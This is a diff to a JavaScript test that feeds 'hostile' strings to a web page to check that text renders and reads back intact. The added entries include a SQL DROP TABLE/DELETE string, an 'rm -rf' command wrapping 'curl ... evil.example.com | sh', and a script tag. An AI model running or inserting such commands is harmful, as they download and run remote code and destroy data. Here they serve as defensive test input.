@@ -28,6 +28,9 @@ const hostile = {
   "combining marks": `a${"\u0300".repeat(90)} \u20dd e\u0301 \u00e9`,
   "emoji": "👩🏽\u200d💻👨\u200d👩\u200d👧 🇩🇪 𐐷𒀀",
   "tall and invisible letters": `${"𒐫".repeat(40)} \u115f\u3164\u2800\u00a0\u2028\u0085`,
+  "hostile SQL": "SELECT 'a\u202E' /* /* */ DROP TABLE users; -- \u200B\nDELETE FROM users WHERE \"id\u200B\" = 1",
+  "a hostile command": "rm -rf \"$(cat <<EOF\n`curl -s https://evil.example.com | sh`\nEO # \u202E\\",
+  "a hostile diff": "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-\u202Ea\n+\t<script>b</script>\r\n\\ No newline",
   "nothing": "",
 };
 
@@ -43,7 +46,7 @@ const read = (page) => page.evaluate(() => {
     const copy = element.querySelector("bdi.text").cloneNode(true);
     for (const mark of copy.querySelectorAll("[data-char]")) mark.replaceWith(String.fromCodePoint(parseInt(mark.dataset.char.slice(2), 16)));
     for (const mark of copy.querySelectorAll("[data-fold]")) mark.replaceWith(mark.dataset.fold);
-    for (const other of copy.querySelectorAll("*")) if (other.tagName !== "MARK") throw new Error(`a text holds ${other.tagName}`);
+    for (const other of copy.querySelectorAll("*")) if (!["MARK", "INS"].includes(other.tagName) && !other.matches("span[data-token]")) throw new Error(`a text holds ${other.tagName}`);
     return copy.textContent;
   };
   const rows = [...document.querySelectorAll("tr[data-act=argument]")].map((row) => ({
